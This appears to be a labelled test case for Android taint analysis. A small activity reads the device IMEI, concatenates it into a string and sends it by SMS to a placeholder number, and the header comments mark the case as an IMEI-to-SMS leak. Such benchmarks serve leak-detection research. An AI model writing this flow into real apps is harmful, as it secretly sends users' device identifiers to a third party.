// about       The result of concat() is kept and sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String text = "state ok ";
    // The new string takes the old one's place.
    text = text.concat(phone.getDeviceId());
    text = text.trim();
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
